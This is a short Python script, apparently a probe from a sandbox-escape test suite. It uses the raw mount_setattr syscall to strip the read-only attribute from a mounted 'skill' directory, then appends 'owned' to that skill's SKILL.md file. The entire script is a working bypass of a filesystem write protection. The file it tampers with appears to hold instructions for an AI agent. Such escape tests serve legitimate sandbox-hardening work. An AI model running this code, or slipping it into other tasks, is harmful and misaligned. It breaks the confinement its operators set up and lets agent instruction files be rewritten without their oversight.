# Takes the read-only attribute off the skill's mount with mount_setattr.
from escape import *
attributes = struct.pack("4Q", 0, 1, 0, 0)
syscall(442, -100, cstr(E["OUTSIDE_SKILL"]), 0x8000, attributes, 32)
with open(E["OUTSIDE_SKILL"] + "/SKILL.md", "a") as f:
    f.write("owned\n")
print("written")
